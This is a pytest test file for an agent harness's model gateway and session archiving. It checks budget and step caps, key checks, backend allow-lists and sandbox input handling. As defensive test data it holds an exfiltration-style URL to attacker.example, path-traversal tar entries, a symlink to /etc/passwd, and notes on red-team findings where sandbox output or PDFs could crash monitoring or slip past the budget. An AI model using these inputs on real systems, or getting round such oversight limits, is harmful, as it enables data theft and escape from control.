"""The model gateway's decisions (``jobs/gateway/messages.py``) and the Claude Code session's
pack and unpack (``jobs/agents/claude_code.py``): what is sent, what is refused, what is
restored. Pure: no server is started."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import tarfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anthropic
import pytest
from PIL import Image

from bot.core import repo_config
from bot.core.models import ModelSpec
from bot.core.rules.loop import budget
from bot.core.settings import SettingsError, load_settings
from jobs import precall
from jobs.agents import claude_code, session
from jobs.gateway import messages as gateway

ADAPTIVE = ModelSpec("claude-x", 200_000, 64_000, True, frozenset({"low", "high"}))
PLAIN = ModelSpec("claude-x", 200_000, 8_000, False, frozenset())


def make(
    spec: ModelSpec = ADAPTIVE, cap: int = 16_000, effort: str | None = None, guard: Any = None
) -> gateway.ModelGateway:
    client = anthropic.Anthropic(api_key="sk-real", base_url="http://127.0.0.1:9")
    return gateway.ModelGateway(
        client,
        gateway.Policy("claude-x", spec, cap, effort),
        run_dir=Path("/nonexistent"),
        guard=guard or (lambda request: budget.Call(tokens=1, usd=0.0)),
        charge=lambda model, used: None,
    )


def test_another_model_or_a_body_that_is_no_object_is_refused() -> None:
    gw = make()
    with pytest.raises(gateway.Refused) as e:
        gw.shaped({"model": "claude-opus-4-8", "max_tokens": 10, "messages": []})
    assert e.value.status == 400 and "claude-x" in e.value.message
    for body in ([], "x", None, 3):
        with pytest.raises(gateway.Refused):
            gw.shaped(body)


def test_max_tokens_is_capped_by_the_loop_and_the_model() -> None:
    assert make(cap=16_000).shaped({"model": "claude-x", "max_tokens": 99_999})["max_tokens"] == (
        16_000
    )
    assert make(cap=16_000).shaped({"model": "claude-x", "max_tokens": 100})["max_tokens"] == 100
    assert make(cap=16_000).shaped({"model": "claude-x"})["max_tokens"] == 16_000
    assert make(cap=16_000).shaped({"model": "claude-x", "max_tokens": -5})["max_tokens"] == 16_000
    # The model's own output limit wins over the loop's.
    assert make(PLAIN, cap=16_000).shaped({"model": "claude-x", "max_tokens": 9e9})[
        "max_tokens"
    ] == (8_000)


def test_thinking_and_effort_are_the_loops_not_the_backends() -> None:
    body = {
        "model": "claude-x",
        "max_tokens": 1000,
        "thinking": {"type": "enabled", "budget_tokens": 50_000},
        "output_config": {"effort": "max", "format": {"type": "json_schema"}},
    }
    out = make(effort="low").shaped(body)
    assert out["thinking"] == {"type": "adaptive"}
    assert out["output_config"] == {"effort": "low", "format": {"type": "json_schema"}}
    # An effort the model does not take is not sent, and the backend's is dropped too.
    out = make(effort="max").shaped(body)
    assert out["output_config"] == {"format": {"type": "json_schema"}}
    assert body["output_config"]["effort"] == "max"  # the request itself is not changed


def test_thinking_on_a_model_without_adaptive_thinking_fits_the_cap() -> None:
    body = {"model": "claude-x", "max_tokens": 8000, "thinking": {"type": "enabled"}}
    out = make(PLAIN, cap=2000).shaped(body)
    assert out["thinking"] == {"type": "enabled", "budget_tokens": 1999}
    out = make(PLAIN, cap=500).shaped(body)
    assert out["thinking"] == {"type": "disabled"}
    # Clearing thinking needs thinking on: the edit goes, other edits stay.
    body["context_management"] = {
        "edits": [{"type": "clear_thinking_20251015"}, {"type": "clear_tool_uses_20250919"}]
    }
    out = make(PLAIN, cap=500).shaped(body)
    assert out["context_management"] == {"edits": [{"type": "clear_tool_uses_20250919"}]}
    body["context_management"] = {"edits": [{"type": "clear_thinking_20251015"}]}
    assert "context_management" not in make(PLAIN, cap=500).shaped(body)


def test_only_the_placeholder_key_is_let_in() -> None:
    gw = make()
    assert gw.placeholder.startswith(gateway.PLACEHOLDER_PREFIX)
    assert gw.authorised({"x-api-key": gw.placeholder})
    assert gw.authorised({"authorization": "Bearer " + gw.placeholder})
    assert not gw.authorised({})
    assert not gw.authorised({"x-api-key": "sk-real"})
    assert not gw.authorised({"x-api-key": gw.placeholder[:-1]})
    assert not gw.authorised({"authorization": gw.placeholder})  # not a bearer token
    assert make().placeholder != gw.placeholder  # one per gateway, never guessable


def test_a_spent_budget_refuses_every_later_call() -> None:
    calls: list[dict[str, Any]] = []

    def guard(request: dict[str, Any]) -> budget.Call:
        calls.append(request)
        if len(calls) == 2:
            raise precall.OverBudget("$1.00 of $1.00 spent")
        return budget.Call(tokens=10, usd=0.01)

    gw = make(guard=guard)
    body = {"model": "claude-x", "max_tokens": 10, "messages": [], "metadata": {"x": 1}}
    assert gw.admit(body).tokens == 10
    assert "metadata" not in calls[0]  # the guard sees what is counted, no more
    with pytest.raises(gateway.Refused) as e:
        gw.admit(body)
    assert "budget is spent" in e.value.message and gw.exhausted
    with pytest.raises(gateway.Refused):
        gw.admit(body)  # the guard would pass now: the budget does not come back
    assert len(calls) == 2


@contextlib.contextmanager
def opened(path: Path) -> Iterator[int]:
    """A directory's descriptor, as the harness holds the sandbox's HOME."""
    fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        yield fd
    finally:
        os.close(fd)


def test_the_step_cap_counts_every_call_sent_and_refuses_the_next() -> None:
    """``max_calls`` (the turn's step cap): calls the guard lets through count, whoever
    sends them; the next is refused with a 400 the CLI shows, and so is every later one.
    A call refused for the budget is not counted (issue 37, item 6)."""
    gw = make()
    gw.max_calls = 2
    body = {"model": "claude-x", "max_tokens": 10, "messages": []}
    gw.admit(body)
    gw.admit(body)
    for _ in range(2):
        with pytest.raises(gateway.Refused) as e:
            gw.admit(body)
        assert e.value.status == 400 and "step cap (2 model calls)" in e.value.message
    assert gw.capped and gw.admitted == 2


def test_unsplit_cache_writes_of_a_one_hour_request_are_priced_as_one_hour() -> None:
    """An answer's usage that splits its cache writes by TTL is priced by the split; one
    that does not, for a request that asked for a 1-hour write, has every write priced
    at the 1-hour rate (2x input), never less (issue 37, item 2)."""
    from jobs.gateway.usage import MessagesUsage

    def read(usage: dict[str, Any], long_cache: bool) -> float:
        reader = MessagesUsage("claude-sonnet-4-6")  # $3 input: a 1-hour write $6
        reader.long_cache = long_cache
        start = {"type": "message_start", "message": {"usage": usage}}
        reader.feed(f"event: message_start\ndata: {json.dumps(start)}\n\n".encode(), stream=True)
        used = reader.usage()
        assert used is not None
        return used.cost_usd

    plain = {"input_tokens": 0, "cache_creation_input_tokens": 1_000_000}
    split = {**plain, "cache_creation": {"ephemeral_1h_input_tokens": 250_000}}
    assert read(split, True) == pytest.approx(0.25 * 6.0 + 0.75 * 3.75)
    assert read(plain, True) == pytest.approx(6.0)
    assert read(plain, False) == pytest.approx(3.75)


def test_a_session_packs_and_unpacks_under_another_worktree_path(tmp_path: Path) -> None:
    home, cwd = tmp_path / "a", "/data/a/wt/acme-1"
    root = home / ".claude" / "projects" / claude_code.project_dir(cwd)
    (root / "s1" / "subagents").mkdir(parents=True)
    (root / "s1.jsonl").write_text('{"turn": 1}\n')
    (root / "s1" / "subagents" / "x.jsonl").write_text("sub\n")
    (root / "other.jsonl").write_text("another session\n")
    (root / "s1-link.jsonl").symlink_to("/etc/passwd")
    with opened(home) as fd:
        data = claude_code.pack(fd, cwd, "s1")
    other, cwd2 = tmp_path / "b", "/data/b/wt/acme-1"
    other.mkdir()
    assert claude_code.unpack(data, other, cwd2) == cwd  # where it ran before
    note = session.moved_note(cwd, cwd2)
    assert f"now at {cwd2}" in note and cwd in note
    assert session.moved_note(cwd2, cwd2) == session.moved_note(None, cwd2) == ""
    back = other / ".claude" / "projects" / claude_code.project_dir(cwd2)
    assert (back / "s1.jsonl").read_text() == '{"turn": 1}\n'
    assert (back / "s1" / "subagents" / "x.jsonl").read_text() == "sub\n"
    assert not (back / "other.jsonl").exists()  # only this loop's session
    assert not (back / "s1-link.jsonl").exists()  # a link planted in HOME is not followed
    assert not (back / session.CWD_MEMBER).exists()  # read and removed
    assert claude_code.project_dir("/tmp/a.b_c") == "-tmp-a-b-c"


@pytest.mark.parametrize(
    "member",
    [
        tarfile.TarInfo("../escape.jsonl"),
        tarfile.TarInfo("/etc/evil.jsonl"),
    ],
)
def test_a_forged_session_archive_cannot_write_outside_its_directory(
    tmp_path: Path, member: tarfile.TarInfo
) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        member.size = 3
        tar.addfile(member, io.BytesIO(b"bad"))
    home = tmp_path / "home"
    home.mkdir()
    with pytest.raises(session.BadSession):
        claude_code.unpack(buf.getvalue(), home, "/wt")
    assert not (tmp_path / "escape.jsonl").exists() and not Path("/etc/evil.jsonl").exists()
    assert [p for p in tmp_path.rglob("*.jsonl") if home / ".claude" not in p.parents] == []


def test_a_session_id_is_fixed_per_loop_and_a_uuid() -> None:
    import uuid

    a = claude_code.session_id("acme/w#1")
    assert a == claude_code.session_id("acme/w#1") != claude_code.session_id("acme/w#2")
    assert str(uuid.UUID(a)) == a


def test_a_backend_the_operator_does_not_allow_is_clamped_to_builtin() -> None:
    yml = "verify: make test\nagent:\n  backend: claude-code\n"
    config, notes = repo_config.load(yml, repo_config.DEFAULT_CEILINGS)
    assert config.agent.backend == "builtin"
    assert any("agent.backend" in n and "LOOPBOT_AGENT_BACKENDS" in n for n in notes)
    allowed = repo_config.Ceilings(
        models=repo_config.ModelPolicy(backends=frozenset({"builtin", "claude-code"}))
    )
    config, notes = repo_config.load(yml, allowed)
    assert config.agent.backend == "claude-code" and not notes
    with pytest.raises(repo_config.ConfigError):
        repo_config.load("verify: x\nagent:\n  backend: cursor\n", allowed)


def test_the_operator_names_only_known_backends() -> None:
    from tests.unit.test_settings import base

    settings_env = {**base(), "ANTHROPIC_API_KEY": "sk-x"}
    ok = load_settings({**settings_env, "LOOPBOT_AGENT_BACKENDS": "claude-code"}, role="worker")
    assert ok.agent_backends == {"builtin", "claude-code"}  # builtin is always allowed
    with pytest.raises(SettingsError) as e:
        load_settings({**settings_env, "LOOPBOT_AGENT_BACKENDS": "builtin,codex"}, role="worker")
    assert "codex" in str(e.value)


def test_content_the_api_would_fetch_is_refused_wherever_it_sits() -> None:
    gw = make()
    url = {"type": "url", "url": "https://attacker.example/?d=secret"}
    hidden = [
        {"role": "user", "content": [{"type": "image", "source": url}]},
        {
            "role": "user",
            "content": [
                {
                    "type": "tool_result",
                    "tool_use_id": "t1",
                    "content": [{"type": "document", "source": {"type": "file", "file_id": "f"}}],
                }
            ],
        },
    ]
    for message in hidden:
        with pytest.raises(gateway.Refused, match="URL or file source"):
            gw.shaped({"model": "claude-x", "max_tokens": 10, "messages": [message]})
    # Inline data is fine, and so is a tool call's input that merely looks like a block.
    fine = [
        {
            "role": "user",
            "content": [{"type": "image", "source": {"type": "base64", "data": "AA=="}}],
        },
        {
            "role": "assistant",
            "content": [{"type": "tool_use", "id": "t", "name": "Write", "input": {"source": url}}],
        },
    ]
    out = gw.shaped({"model": "claude-x", "max_tokens": 10, "messages": fine})
    assert out["messages"] == fine


def test_a_label_picks_an_allowed_backend_and_anything_else_is_refused_by_name() -> None:
    from dataclasses import replace

    from bot.core import repo_config
    from bot.core.record import label_backend

    assert label_backend(("loop:ready", "bug")) == ""
    assert label_backend(("loop:agent-opencode", "loop:ready")) == "opencode"
    assert label_backend(("loop:agent-opencode", "loop:agent-builtin")) == "builtin,opencode"
    ceilings = repo_config.DEFAULT_CEILINGS
    allowed = replace(
        ceilings, models=replace(ceilings.models, backends=frozenset({"builtin", "opencode"}))
    )
    config = repo_config.parse("verify: make test\n")
    picked, notes = repo_config.with_backend(config, "opencode", allowed)
    assert picked.agent.backend == "opencode" and notes == []
    for asked, why in (
        ("claude-code", "not a backend this installation allows"),
        ("gpt", "no such agent backend"),
        ("builtin,opencode", "more than one backend"),
    ):
        same, notes = repo_config.with_backend(config, asked, allowed)
        assert same.agent.backend == "builtin" and why in notes[0], notes


def test_a_stream_without_newlines_is_dropped_not_held_and_costs_linear_time() -> None:
    """The CLI's stdout is a pipe a process in the sandbox may write into (red team): 64
    MiB with no newline is dropped past MAX_LINE, in linear time, and the next whole
    line is read as it comes."""
    import time as _time

    from jobs.agents import cli

    seen: list[dict[str, object]] = []

    class Reader(cli.CliAgent):
        def event(self, state: cli.Turn, event: dict[str, object]) -> None:
            seen.append(event)

    reader = Reader.__new__(Reader)
    state = cli.Turn()
    started = _time.monotonic()
    chunk = b"x" * (64 << 10)
    for _ in range(1024):  # 64 MiB
        reader._read(state, chunk)
        assert len(state.buffer) <= cli.MAX_LINE
    reader._read(state, b'tail of the long line\n{"type": "a"}\n{"type": ')
    reader._read(state, b'"b"}\n')
    assert _time.monotonic() - started < 5
    assert seen == [{"type": "a"}, {"type": "b"}]


def test_a_session_tree_too_deep_or_too_wide_is_refused_without_recursion(
    tmp_path: Path,
) -> None:
    deep = tmp_path / "deep"
    path = deep / "opencode.db-shm"
    for _ in range(40):  # deeper than a session has
        path = path / "d"
    path.mkdir(parents=True)
    with opened(deep) as fd, pytest.raises(session.SessionTooLarge):
        session.pack(fd, ".", "/w", pick="opencode.db-shm".__eq__)
    wide = tmp_path / "wide" / "opencode.db-shm"
    wide.mkdir(parents=True)
    for i in range(session.MAX_SESSION_ENTRIES + 1):
        (wide / str(i)).touch()
    with opened(wide.parent) as fd, pytest.raises(session.SessionTooLarge):
        session.pack(fd, ".", "/w", pick="opencode.db-shm".__eq__)
    (wide.parent / "opencode.db").write_bytes(b"db")
    (wide.parent / "opencode.db-wal").symlink_to("/etc/passwd")
    with opened(wide.parent) as fd:
        data = session.pack(fd, ".", "/w", pick=("opencode.db", "opencode.db-wal").__contains__)
    out = tmp_path / "out"
    out.mkdir()
    session.unpack(data, out, ".")
    assert (out / "opencode.db").read_bytes() == b"db" and not (out / "opencode.db-wal").exists()


def test_an_image_or_document_makes_the_budget_assume_the_whole_window() -> None:
    """A PDF or image is billed by its pages and pixels, not its bytes (the red team's
    4.6 KB PDF held 242K tokens): a request holding one is judged at the model's window;
    a request of text alone at its bytes."""
    gw = make()
    pdf = {"type": "document", "source": {"type": "base64", "media_type": "application/pdf"}}
    result = {"type": "tool_result", "tool_use_id": "t", "content": [pdf]}
    for content in ([pdf], [result]):
        request = {
            "model": "claude-x",
            "max_tokens": 10,
            "messages": [{"role": "user", "content": content}],
        }
        seen = gw.budgeted(gw.shaped(request))
        assert budget.input_bound(seen) == ADAPTIVE.window
    text = {"model": "claude-x", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}
    assert budget.input_bound(gw.budgeted(gw.shaped(text))) < 3_000


def _line(**event: object) -> bytes:
    return json.dumps(event).encode()


DEEP = b'{"type": "assistant", "message": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@pytest.mark.parametrize(
    ("backend", "bad"),
    [
        ("claude_code", DEEP),
        ("claude_code", b'{"type": "assistant", "message": {"content": 5}}'),
        (
            "claude_code",
            _line(
                type="user",
                message={"content": [{"type": "tool_result", "content": [{"text": {"a": 1}}]}]},
            ),
        ),
        ("opencode", DEEP),
        (
            "opencode",
            _line(
                type="tool_use", part={"tool": "x", "state": {"status": "completed", "input": 5}}
            ),
        ),
        ("codex", DEEP),
        ("codex", b'{"type": "item.completed", "item": {"type": "file_change", "changes": 5}}'),
        (
            "codex",
            b'{"type": "item.completed", "item": {"type": "mcp_tool_call", "result": {"x": '
            + b"[" * 100_000
            + b"]" * 100_000
            + b"}}}",
        ),
    ],
)
def test_a_bad_line_from_the_cli_is_skipped_and_the_stream_read_on(
    backend: str, bad: bytes
) -> None:
    """Every line a CLI prints is hostile input (a sandbox process can write to its stdout):
    a line that is too deep to decode, or whose fields have the wrong types, is skipped,
    and the next line is read. It raised RecursionError or TypeError out of the job,
    leaving the sandbox running unwatched (a red team's finding)."""
    import importlib

    from jobs.agents import cli

    module = importlib.import_module(f"jobs.agents.{backend}")
    cls = next(
        v
        for v in vars(module).values()
        if isinstance(v, type) and issubclass(v, cli.CliAgent) and v is not cli.CliAgent
    )
    said: list[str] = []
    reader = cls.__new__(cls)
    reader.on_event = lambda kind, data: said.append(kind)
    reader.on_step = lambda step, name: None
    state = cli.Turn()
    good = {
        "claude_code": _line(
            type="assistant", message={"content": [{"type": "text", "text": "hi"}]}
        ),
        "opencode": b'{"type": "text", "part": {"text": "hi"}}',
        "codex": b'{"type": "item.completed", "item": {"type": "agent_message", "text": "hi"}}',
    }[backend]
    assert reader._read(state, bad + b"\n" + good + b"\n")
    assert state.text == "hi" and said[-1] == "agent_text"


def _png(width: int, height: int) -> str:
    buf = io.BytesIO()
    Image.new("RGB", (width, height), "white").save(buf, "PNG")
    return base64.b64encode(buf.getvalue()).decode()


@pytest.mark.parametrize(
    ("width", "height", "tokens"),
    [
        (1000, 1000, 1334),  # width * height / 750, rounded up
        (200, 40, 11),
        (4000, 2000, 1640),  # as the API scales it first: 1568 x 784
    ],
)
def test_an_image_counts_by_its_pixels_on_top_of_its_bytes(
    width: int, height: int, tokens: int
) -> None:
    """Anthropic documents an image's tokens as about width * height / 750: the bound is
    the request's bytes plus that, never the whole window (a PDF still takes it)."""
    gw = make()
    image = {
        "type": "image",
        "source": {"type": "base64", "media_type": "image/png", "data": _png(width, height)},
    }
    request = {
        "model": "claude-x",
        "max_tokens": 10,
        "messages": [{"role": "user", "content": [image, {"type": "text", "text": "see"}]}],
    }
    seen = gw.budgeted(gw.shaped(request))
    no_floor = {k: v for k, v in seen.items() if k != budget.MIN_INPUT}
    assert seen[budget.MIN_INPUT] == budget.size(no_floor) + tokens
    assert budget.input_bound(seen) < ADAPTIVE.window
    broken = {**image, "source": {**image["source"], "data": "not base64!"}}
    request["messages"][0]["content"] = [broken]
    assert budget.input_bound(gw.budgeted(gw.shaped(request))) == ADAPTIVE.window
